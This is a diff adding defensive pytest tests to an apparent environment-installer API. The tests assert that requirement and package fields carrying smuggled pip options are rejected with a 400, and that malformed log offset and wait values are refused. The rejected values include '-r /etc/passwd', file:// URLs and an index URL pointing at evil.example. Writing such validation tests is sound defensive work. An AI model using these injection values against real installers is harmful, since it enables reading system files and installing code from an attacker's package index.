@@ -173,3 +173,37 @@ async def test_lost_kernelspecs_come_back_and_half_builds_go(api, service, env_d
     assert os.path.isfile(os.path.join(location, "kernel.json"))
     assert not (env_dir / "half").exists() and not (env_dir / ".half.building").exists()
     assert service.reregister() == []
+
+
+@pytest.mark.parametrize("option, value", [
+    ("requirements", "-r /etc/passwd"),
+    ("requirements", "six\n   --requirement /etc/passwd\n"),
+    ("requirements", "six\n-\\\nc /etc/passwd\n"),
+    ("requirements", "--index-url http://evil.example/simple"),
+    ("requirements", "-e ."),
+    ("requirements", "/tmp/some/package"),
+    ("requirements", "./pkg"),
+    ("requirements", "file:///etc/passwd"),
+    ("requirements", "pkg @ file:///tmp/pkg"),
+    ("requirements", "pkg @ https://x.example/${HOME}.whl"),
+    ("packages", ["six", "  -r /etc/passwd"]),
+    ("packages", ["--find-links=/tmp"]),
+    ("packages", ["pkg @ file://localhost/tmp/pkg"]),
+    ("packages", ["../pkg"]),
+])
+async def test_pip_options_and_local_files_are_refused_in_requirements(api, option, value):
+    code, err = await api("POST", "installs", body={
+        "kind": "python", "name": "p", "options": {option: value}})
+    assert (code, err["reason"]) == (400, "InvalidOption"), err
+    assert f"option '{option}'" in err["message"] and "not allowed" in err["message"]
+    code, body = await api("GET", "installs")
+    assert body["installs"] == []  # nothing started, nothing written to a log
+
+
+async def test_offsets_beyond_any_log_are_400(api):
+    for name, value in (("offset", "99999999999999999999"), ("offset", "-1"), ("wait", "nan"),
+                        ("wait", "inf"), ("wait", "1e400"), ("offset", "1.5"),
+                        ("offset", "\uff11"), ("offset", "1_0")):
+        code, err = await api("GET", "installs", "abc123", "log", params={name: value})
+        assert code == 400 and err["reason"] == "InvalidArgument", (name, value, err)
+        assert f"'{name}'" in err["message"]
